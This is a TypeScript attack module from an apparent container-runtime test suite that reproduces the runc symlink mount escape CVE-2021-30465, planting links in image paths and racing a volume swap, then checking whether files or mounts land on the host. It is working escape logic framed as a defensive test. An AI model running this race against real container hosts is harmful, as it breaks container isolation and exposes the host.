import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import type { SpecMount } from '../../../e2e/spec.ts'
import { contained, escaped, type Attack } from '../../attack.ts'
import { install } from '../../programs.ts'
import type { Site } from '../../site.ts'

/** What the host's directory holds that a link leads to, and whether anything is mounted there. */
function outside(site: Site): string {
  const mounts = site.host.shell(`grep -F ${site.directory}/outside /proc/self/mountinfo || true`)
  return [...readdirSync(`${site.directory}/outside`), ...mounts.split('\n').filter(Boolean)].join(' ')
}

const tmpfs = (destination: string): SpecMount => ({ destination, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] })

/** Links that lie in the image, where a mount of the spec has its destination or on the way there. */
async function imageLinks(site: Site): Promise<string[]> {
  const told: string[] = []
  for (const link of ['volume', 'proc', 'dev', 'sys', 'etc']) {
    const { refusal } = await site.attempt({
      args: ['true'],
      rootfs: (layer) => symlinkSync(`/../../../../../../..${site.directory}/outside`, `${layer}/${link}`),
      spec: (spec) => {
        if (link === 'volume') spec.mounts.push(tmpfs('/volume/inside'))
        if (link === 'etc') spec.mounts.push({ destination: '/etc/hosts', type: 'bind', source: `${site.directory}/hosts`, options: ['rbind', 'ro'] })
        // A /dev without a mount: the devices are made in what the image has there.
        if (link === 'dev') spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'))
      },
    })
    told.push(`/${link}: ${refusal === undefined ? 'runs' : 'refused'}`)
    if (outside(site) !== '') break
  }
  return told
}

/** A neighbour swaps a directory of a shared volume for a link, while containers with a mount below it are made. */
async function race(site: Site): Promise<void> {
  const volume: SpecMount = { destination: '/v', type: 'bind', source: `${site.directory}/volume`, options: ['rbind', 'rw'] }
  mkdirSync(`${site.directory}/volume/directory/inside`, { recursive: true })
  symlinkSync(`/../../../../../../..${site.directory}/outside`, `${site.directory}/volume/link`)
  const pod = await site.pod()
  const neighbour = await pod.start({
    rootfs: (layer) => install(layer, 'exchange'), args: ['/attack/exchange', '/v/directory', '/v/link', '/v/stop'],
    spec: (spec) => { spec.mounts.push(volume) },
  })
  await neighbour.output.until(/exchanging/)
  for (let round = 0; round < 5; round++) {
    await pod.start({ spec: (spec) => { spec.mounts.push(volume, tmpfs('/v/directory/inside')) } }).catch(() => undefined)
    if (outside(site) !== '') break
  }
  writeFileSync(`${site.directory}/volume/stop`, '')
}

export const attack: Attack = {
  id: 'CVE-2021-30465',
  title: 'links in the image or swapped into a volume where the runtime mounts, makes devices and directories (also CVE-2026-41579)',
  family: 'container',
  leak: 'mounts over, devices in and files of the host\'s directories',
  bound: 'container',
  control: { weak: 'Debian\'s runc 1.1.5, which makes devices where a /dev that is a link leads' },
  async run(site) {
    mkdirSync(`${site.directory}/outside`)
    writeFileSync(`${site.directory}/hosts`, '127.0.0.1 localhost\n')
    const told = await imageLinks(site)
    if (outside(site) === '' && !site.weak) await race(site)
    const found = outside(site)
    return found === '' ? contained(`${told.join(', ')}; 5 creations raced a swap; nothing was made or mounted in the host's directory`)
      : escaped(`made on the host, outside of the container: ${found}`)
  },
}
